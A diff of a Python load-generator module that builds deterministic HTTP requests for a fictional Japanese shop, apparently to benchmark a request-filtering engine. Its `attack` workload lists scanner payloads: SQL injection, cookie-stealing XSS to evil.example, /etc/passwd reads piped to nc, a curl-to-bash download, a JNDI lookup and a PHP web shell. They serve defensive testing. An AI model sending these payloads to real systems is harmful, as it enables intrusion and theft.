@@ -1,112 +1,156 @@
-"""Requests of a shop, as bytes. Each workload is a list of whole HTTP/1.1 requests that the load
-generator sends in turn; nothing is random, so two machines send the same. All but `attack` are
-harmless and must pass."""
+"""Requests of a shop, as bytes, drawn by generators with fixed seeds: two machines send the same.
+Each workload is a long list of *distinct* requests, each of another visitor (see shoppers.py). All
+but `attack` are harmless."""
 import json
-from urllib.parse import quote, urlencode
+import random
+from urllib.parse import quote, quote_plus, urlencode
 
-AGENT = ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
-         "Chrome/120.0.0.0 Safari/537.36")
-COOKIES = ("session=4f1c9a7e52d84b60; cart=01JDC3M7R8; lang=ja; seen=tea-017,tea-004,wagashi-112; "
-           "consent=2026-10-02; theme=light")
-SEARCHES = ("抹茶", "宇治 玉露 100g", "和紙 便箋", "teapot cast iron", "ﾉｰﾄ Ａ５", "のし紙 内祝い")
+import shoppers
+
+HTML = "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8"
+LANGUAGES = ("ja,en-US;q=0.9,en;q=0.8", "ja-JP,ja;q=0.9", "ja", "en-US,en;q=0.5", "ja;q=0.8,zh-TW;q=0.6")
 
 
-def request(method, target, body=b"", content_type=None, **headers):
-    """One request as a browser sends it."""
+def request(rng, method, target, body=b"", content_type=None, accept=HTML):
+    """As a browser sends it: 12 to 16 headers."""
+    page = accept == HTML
     lines = ["%s %s HTTP/1.1" % (method, target), "Host: shop.example.jp",
-             "User-Agent: " + AGENT,
-             "Accept: text/html,application/xhtml+xml,application/xml;q=0.9,image/webp,*/*;q=0.8",
-             "Accept-Language: ja,en-US;q=0.8,en;q=0.6", "Accept-Encoding: gzip, deflate, br",
-             "Referer: https://shop.example.jp/s/chaho/c/tea?page=2", "Cookie: " + COOKIES,
-             "Sec-Fetch-Dest: document", "Sec-Fetch-Mode: navigate", "Sec-Fetch-Site: same-origin",
-             "Upgrade-Insecure-Requests: 1"]
-    lines += ["%s: %s" % (name.replace("_", "-"), value) for name, value in headers.items()]
+             'sec-ch-ua-mobile: ?%d' % rng.randrange(2), 'sec-ch-ua-platform: "%s"' % rng.choice(
+                 ["Windows", "macOS", "Android", "Linux"]),
+             "User-Agent: " + shoppers.agent(rng), "Accept: " + accept,
+             "Accept-Language: " + rng.choice(LANGUAGES), "Accept-Encoding: gzip, deflate, br",
+             "Referer: https://shop.example.jp/s/chaho/p/tea-%03d?page=%d" % (
+                 rng.randrange(1000), rng.randrange(30)),
+             "Cookie: " + shoppers.cookies(rng), "Sec-Fetch-Site: same-origin",
+             "Sec-Fetch-Mode: " + ("navigate" if page else "cors"),
+             "Sec-Fetch-Dest: " + ("document" if page else "empty")]
     if content_type:
         lines += ["Origin: https://shop.example.jp", "Content-Type: " + content_type,
                   "Content-Length: %d" % len(body)]
     return "\r\n".join(lines).encode() + b"\r\n\r\n" + body
 
 
-def tiny():
+def tiny(rng):
     """The least that a client sends: what the engine costs where there is nothing to see."""
-    return [b"GET / HTTP/1.1\r\nHost: shop.example.jp\r\nUser-Agent: health/1.0\r\n"
-            b"Accept: */*\r\n\r\n"]
+    return ("GET / HTTP/1.1\r\nHost: shop.example.jp\r\nUser-Agent: %s\r\nAccept: */*\r\n\r\n"
+            % shoppers.agent(rng)).encode()
 
 
-def browse():
-    """Pages and searches of a visitor."""
-    targets = ["/", "/s/chaho/", "/s/chaho/c/sencha?sort=price&page=3", "/s/chaho/p/tea-017",
-               "/s/bunguya/p/washi-204?from=recommended"]
-    targets += ["/s/chaho/search?q=%s&sort=new&page=1" % quote(word) for word in SEARCHES]
-    return [request("GET", target) for target in targets]
+def search(rng, base):
+    return "%s?category=kitchen%d&sort=%s&page=%d&q=%s" % (
+        base, rng.randrange(400), rng.choice(["price_asc", "new", "rating"]), rng.randrange(1, 300),
+        quote(shoppers.product(rng)))
 
 
-def checkout():
-    """Addresses and orders: Japanese forms of one to two kilobytes."""
-    forms = []
-    for name, kana, town in (("山田 太郎", "ヤマダ タロウ", "京都市中京区寺町通御池上る"),
-                             ("佐藤 花子", "サトウ ハナコ", "千代田区丸の内１−２−３ 東ビル 4F"),
-                             ("O'Brien Seán", "オブライエン ショーン", "横浜市中区山下町 279")):
-        forms.append(urlencode([
-            ("token", "9f8b7c6d5e4f3a2b1c0d9e8f7a6b5c4d"), ("name", name), ("kana", kana),
-            ("postal", "604-8091"), ("prefecture", "京都府"), ("address", town),
-            ("phone", "075-123-4567"), ("email", "hanako.sato+shop@example.jp"),
-            ("delivery", "2026-12-01"), ("slot", "14-16"), ("payment", "bank"),
-            ("gift", "のし：御歳暮　名入れ：山田"), ("items[0][id]", "tea-017"),
-            ("items[0][n]", "2"), ("items[1][id]", "wagashi-112"), ("items[1][n]", "1"),
-            ("note", "不在の場合は宅配ボックスにお願いします。インターホンが鳴らないことがあります。"),
-        ]).encode())
-    return [request("POST", "/s/chaho/checkout", form, "application/x-www-form-urlencoded")
-            for form in forms]
+def browse(rng):
+    """A search: four arguments, six cookies."""
+    return request(rng, "GET", search(rng, "/products"))
 
 
-def json_api():
-    """A cart kept by script: JSON of about 1.5 KB."""
-    bodies = []
-    for turn in range(3):
-        items = [{"id": "tea-%03d" % (n + turn), "quantity": 1 + n % 3, "price": 1080 + 90 * n,
-                  "name": "宇治煎茶「朝霧」%dg" % (50 * (n + 1)), "gift": n % 2 == 0}
-                 for n in range(8)]
-        bodies.append(json.dumps({"cart": "01JDC3M7R8", "items": items, "coupon": None,
-                                  "note": "包装は簡易でかまいません", "total": 12345.0},
-                                 ensure_ascii=False).encode())
-    return [request("POST", "/api/cart", body, "application/json",
-                    X_Requested_With="XMLHttpRequest") for body in bodies]
+def page(rng):
+    """The same; what it is answered with (see html) is inspected."""
+    return request(rng, "GET", search(rng, "/page/%d.html" % rng.randrange(PAGES)))
 
 
-def picture(size):
-    """Bytes that no rule can take for text, the same everywhere: a linear congruence."""
-    value, out = 20261123, bytearray(b"\x89PNG\r\n\x1a\n")
-    while len(out) < size:
-        value = (value * 1103515245 + 12345) & 0x7FFFFFFF
-        out.append(value >> 16 & 0xFF)
-    return bytes(out)
+def checkout(rng):
+    """A form of 17 fields in Japanese, about 1.5 KB."""
+    who = shoppers.person(rng)
+    fields = [("csrf", "%064x" % rng.getrandbits(256)), ("step", "confirm"),
+              ("family_name", who["family"]), ("given_name", who["given"]),
+              ("family_kana", who["family_kana"]), ("given_kana", who["given_kana"]),
+              ("email", who["mail"]), ("tel", who["tel"]), ("zip", who["zip"]),
+              ("prefecture", who["prefecture"]), ("address", who["address"]), ("house", who["house"]),
+              ("delivery", "2026-12-%02d" % rng.randrange(1, 32)), ("payment", rng.choice(["card", "bank", "cod"])),
+              ("coupon", "SUMMER%d" % rng.randrange(10**6)), ("gift", str(rng.randrange(2))),
+              ("comment", shoppers.prose(rng, 2))]
+    return request(rng, "POST", "/checkout", urlencode(fields).encode(), "application/x-www-form-urlencoded")
 
 
-def upload():
-    """A merchant's product with a picture of 60 KB, as multipart."""
-    edge = "----form7MA4YWxkTrZu0gW"
+def cart_line(rng):
+    return {"sku": "KT-%06d" % rng.randrange(10**6), "name": shoppers.product(rng),
+            "image": "/img/products/%d/main.webp" % rng.randrange(10**6),
+            "memo": shoppers.prose(rng, 1)[:18], "qty": rng.randrange(1, 9),
+            "price": rng.randrange(500, 90000), "options": {
+                "color": rng.choice(shoppers.COLOUR), "engraving": rng.choice(shoppers.FAMILY),
+                "gift": rng.random() < .5}}
+
+
+def json_api(rng):
+    """A cart kept by script: about 420 values in 10 KB."""
+    who = shoppers.person(rng)
+    cart = {"cart_id": "%032x" % rng.getrandbits(128), "currency": "JPY",
+            "items": [cart_line(rng) for _ in range(46)],
+            "ship_to": {"name": who["family"] + " " + who["given"], "address": who["prefecture"] + who["address"]},
+            "note": shoppers.prose(rng, 2)}
+    body = json.dumps(cart, ensure_ascii=False, separators=(",", ":")).encode()
+    return request(rng, "POST", "/api/v1/cart", body, "application/json", "application/json")
+
+
+def upload(rng):
+    """A merchant's product with a picture of 256 KB, as multipart."""
+    edge = "----WebKitFormBoundary%016x" % rng.getrandbits(64)
     body = b""
-    for name, value in (("title", "手漉き和紙の便箋"), ("price", "1320"), ("stock", "24"),
-                        ("text", "楮を使い一枚ずつ漉いた便箋です。万年筆でもにじみません。")):
-        body += ('--%s\r\nContent-Disposition: form-data; name="%s"\r\n\r\n%s\r\n'
-                 % (edge, name, value)).encode()
-    body += ('--%s\r\nContent-Disposition: form-data; name="picture"; filename="washi.png"\r\n'
-             'Content-Type: image/png\r\n\r\n' % edge).encode()
-    body += picture(60000) + ("\r\n--%s--\r\n" % edge).encode()
-    return [request("POST", "/desk/product", body, "multipart/form-data; boundary=" + edge)]
+    for name, value in (("product_id", "KT-%06d" % rng.randrange(10**6)), ("title", shoppers.product(rng)),
+                        ("caption", shoppers.prose(rng, 2))):
+        body += ('--%s\r\nContent-Disposition: form-data; name="%s"\r\n\r\n%s\r\n' % (edge, name, value)).encode()
+    body += ('--%s\r\nContent-Disposition: form-data; name="photo"; filename="photo%d.jpg"\r\n'
+             'Content-Type: image/jpeg\r\n\r\n' % (edge, rng.randrange(10**6))).encode()
+    body += b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00" + rng.randbytes(256 << 10)
+    body += ("\r\n--%s--\r\n" % edge).encode()
+    return request(rng, "POST", "/desk/product", body, "multipart/form-data; boundary=" + edge)
 
 
-def attack():
-    """What a scanner tries. Must be refused."""
-    targets = ["/s/chaho/search?q=" + quote(text) for text in (
-        "1' UNION SELECT password,2,3 FROM users-- -", "<script>alert(document.cookie)</script>",
-        "../../../../etc/passwd", ";cat /etc/passwd|nc 10.0.0.1 99", "${jndi:ldap://10.0.0.1/a}",
-        "<?php system($_GET['c']); ?>")]
-    form = urlencode([("name", "admin' OR '1'='1' -- "), ("email", "a@example.jp")]).encode()
-    return [request("GET", target) for target in targets] + [
-        request("POST", "/contact", form, "application/x-www-form-urlencoded")]
+ATTACKS = ("1' UNION SELECT password,{n},3 FROM users-- -", "{n}' OR '1'='1' -- ", "price; DROP TABLE orders{n};--",
+           "-{n} UNION ALL SELECT NULL,username,password FROM users--", "1 AND SLEEP({n})-- -",
+           "<script>alert({n}+document.cookie)</script>", '"><img src=x{n} onerror=alert(1)>',
+           "<svg/onload=fetch('//evil{n}.example/'+document.cookie)>", "javascript:eval(atob('YWxlcnQ{n}'))",
+           "../../../../etc/passwd?{n}", "php://filter/convert.base64-encode/resource=config{n}.php",
+           "127.0.0.1; cat /etc/passwd | nc 192.0.2.7 {n}", "$(curl http://192.0.2.7/{n}.sh|bash)",
+           "<?php system($_GET['c{n}']); ?>", "http://192.0.2.7/shell{n}.txt?")
 
 
-WORKLOADS = {"tiny": tiny, "browse": browse, "checkout": checkout, "json": json_api,
-             "upload": upload, "attack": attack}
+def attack(rng):
+    """What a scanner tries, in an argument of a query, a form or a JSON text. Must be refused."""
+    text = rng.choice(ATTACKS).replace("{n}", str(rng.randrange(1000, 10000)))
+    kind = rng.randrange(3)
+    if kind == 0:
+        return request(rng, "GET", "/search?q=" + quote(text))
+    if kind == 1:
+        body = ("name=%s&text=%s" % (quote_plus(rng.choice(shoppers.FAMILY)), quote_plus(text))).encode()
+        return request(rng, "POST", "/contact", body, "application/x-www-form-urlencoded")
+    return request(rng, "POST", "/api/v1/review", json.dumps({"stars": 5, "text": text}).encode(), "application/json")
+
+
+def html(rng, size):
+    """A page of products of about `size` bytes."""
+    out = ["<!doctype html><html lang=ja><head><meta charset=utf-8><title>%s</title></head><body><ul>\n"
+           % shoppers.product(rng)]
+    left = size
+    while left > 0:
+        out.append('<li class="item"><a href="/products/%d"><img src="/img/%d.webp" alt="%s"></a><p>%s</p>'
+                   '<span class="price">%d円</span></li>\n' % (
+                       rng.randrange(10**5), rng.randrange(10**5), shoppers.product(rng),
+                       shoppers.prose(rng, 2), rng.randrange(500, 90000)))
+        left -= len(out[-1].encode())
+    return ("".join(out) + "</ul></body></html>\n").encode()
+
+
+PAGES = 200
+PAGE_BYTES = 28 << 10
+# How many of each are drawn. A round of measuring goes on where the last one stopped.
+WORKLOADS = {"browse": (browse, 4000), "checkout": (checkout, 3000), "json": (json_api, 400), "upload": (upload, 48),
+             "tiny": (tiny, 4000), "page": (page, 2000), "attack": (attack, 1000)}
+
+
+def draw(name, most=None):
+    """The distinct requests of a workload."""
+    make, count = WORKLOADS[name]
+    rng, drawn = random.Random("shop " + name), {}
+    while len(drawn) < min(count, most or count):
+        drawn[make(rng)] = None
+    return list(drawn)
+
+
+def pages(size=PAGE_BYTES, count=PAGES):
+    rng = random.Random("pages %d" % size)
+    return [html(rng, size) for _ in range(count)]
